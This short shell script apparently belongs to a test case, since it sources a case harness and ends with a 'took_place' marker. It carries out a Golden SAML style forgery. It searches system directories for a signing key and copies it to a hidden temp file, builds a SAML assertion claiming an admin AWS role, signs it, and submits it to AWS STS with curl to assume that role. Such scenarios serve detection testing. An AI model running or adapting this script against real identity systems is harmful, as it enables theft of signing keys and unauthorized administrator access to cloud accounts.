#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/idp/credentials && openssl genrsa -out /opt/idp/credentials/idp-signing.key 2048 2>/dev/null
k=$(find /opt /etc /srv -name '*sign*.key' 2>/dev/null | head -n 1); cp "$k" /tmp/.s.key
printf '<saml2:Assertion><saml2:Subject><saml2:NameID>admin@example.com</saml2:NameID></saml2:Subject><saml2:AttributeValue>arn:aws:iam::000000000000:role/admin,arn:aws:iam::000000000000:saml-provider/idp</saml2:AttributeValue></saml2:Assertion>' >/tmp/.a
openssl dgst -sha256 -sign /tmp/.s.key -out /tmp/.sig /tmp/.a
curl -sf --data-urlencode "SAMLAssertion=$(cat /tmp/.a /tmp/.sig | base64 -w 0)" -d 'Action=AssumeRoleWithSAML' http://sts.amazonaws.com/ >/dev/null
took_place
